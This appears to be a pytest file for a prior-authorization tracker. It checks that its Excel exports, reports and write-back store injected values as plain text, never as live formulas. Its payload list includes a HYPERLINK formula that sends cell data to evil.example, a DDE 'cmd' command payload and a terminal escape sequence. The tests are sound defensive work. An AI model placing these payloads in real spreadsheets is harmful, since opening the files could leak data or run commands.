"""Data never executes: no writer puts a live formula in any cell from data (OWASP's rule).

Every writer — the canonical export, each report, the write-back into the practice's own log —
gets every injection string in every text field; the sheet XML of each result must hold no
``<f>`` element (the test log itself has none).
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from priorauth.model import Authorization, Client, ClientInsurance, Payer, field_values
from priorauth.reports import REPORTS, build
from priorauth.services.tracker import Tracker
from sync.importer import apply_import, plan_import
from sync.writing import cellsafe
from sync.writing.exporter import export_workbook
from sync.writing.report_export import write_report
from sync.writing.writeback import write_back
from tests.helpers.sync_helpers import TODAY, workbook

INJECTIONS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  \t =2+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "#N/A",
]
HEADER = ["Client", "DOB", "Payer", "Member ID", "Auth #", "CPT", "Start", "End", "Units"]
HEADER += ["Used", "Notes", "Clinician"]


def _formulas(path: Path) -> int:
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        assert sheets
        return sum(len(re.findall(rb"<f[ >/]", z.read(n))) for n in sheets)


@pytest.fixture
def injected(tracker: Tracker, tmp_path: Path) -> tuple[Tracker, Path]:
    """A practice imported from a formula-free log, then given every injection in every field."""
    row = ["Lee, Ann", dt.date(1990, 4, 2), "Aetna", "W1", "A-1", "90837", dt.date(2026, 9, 1)]
    row += [dt.date(2027, 2, 28), 24, 5, "fine", "jchen"]
    log = workbook(tmp_path / "log.xlsx", [row], header=HEADER)
    assert _formulas(log) == 0
    apply_import(tracker, plan_import(log, tracker.data(), today=TODAY, user="alice"))
    first = next(iter(tracker.data().authorizations.values()))
    tracker.save_authorization(Authorization(**{**field_values(first), "notes": INJECTIONS[9]}))
    for i, bad in enumerate(INJECTIONS):
        payer = tracker.save_payer(Payer(name=f"{bad}{i}", notes=bad))
        client = tracker.save_client(
            Client(
                first_name=bad,
                last_name=f"{bad}{i}",
                client_id=f"{bad}{i}",
                dob=dt.date(1990, 1, 1),
                clinician=bad,
                notes=bad,
                insurances=[ClientInsurance(payer_id=payer.id, member_id=bad)],
            )
        )
        tracker.save_authorization(
            Authorization(
                client=client.id,
                payer=payer.id,
                auth_number=bad,
                procedure_codes=["90837"],
                units_authorized=10,
                start_date=dt.date(2026, 10, 1),
                end_date=dt.date(2026, 12, 10),
                notes=bad,
                payer_reference=bad,
            )
        )
    return tracker, log


def test_the_export_writes_no_formula(injected: tuple[Tracker, Path], tmp_path: Path) -> None:
    tracker, _ = injected
    out = export_workbook(tracker.data(), tmp_path / "export.xlsx", today=TODAY)
    assert _formulas(out) == 0
    texts = {c.value for ws in load_workbook(out) for r in ws.iter_rows() for c in r}
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in texts  # kept, as text


@pytest.mark.parametrize("kind", sorted(REPORTS))
def test_reports_write_no_formula(
    injected: tuple[Tracker, Path], tmp_path: Path, kind: str
) -> None:
    tracker, _ = injected
    report = build(kind, tracker.data(), TODAY)
    assert report.tables and any(table.rows for table in report.tables)
    assert _formulas(write_report(report, tmp_path / f"{kind}.xlsx")) == 0


def test_write_back_writes_no_formula(injected: tuple[Tracker, Path], tmp_path: Path) -> None:
    tracker, log = injected
    result = write_back(tracker.data(), log, today=TODAY, out=tmp_path / "back.xlsx")
    assert len(result.appended_rows) == len(INJECTIONS) and result.cells_changed >= 1
    assert _formulas(result.path) == 0
    ws = load_workbook(result.path).active
    cells = [c for r in ws.iter_rows(min_row=2) for c in r if isinstance(c.value, str)]
    risky = [c for c in cells if cellsafe.risky(c.value)]
    assert len(risky) >= 5 * len(INJECTIONS)  # payer, member id, number, notes, clinician...
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


@pytest.mark.parametrize("text", INJECTIONS)
def test_the_guard_keeps_text_text(text: str) -> None:
    from openpyxl import Workbook

    cell = Workbook().active["A1"]
    cellsafe.set_value(cell, text)
    assert cell.data_type == "s" and cell.value == text


def test_characters_a_workbook_cannot_hold_are_dropped_not_fatal(
    tracker: Tracker, tmp_path: Path
) -> None:
    tracker.save_payer(Payer(name="Esc\x1b]0;pwned\x07 Co"))
    out = export_workbook(tracker.data(), tmp_path / "e.xlsx", today=TODAY)
    names = {c.value for ws in load_workbook(out) for r in ws.iter_rows() for c in r}
    assert not any(isinstance(v, str) and ("\x1b" in v or "\x07" in v) for v in names)
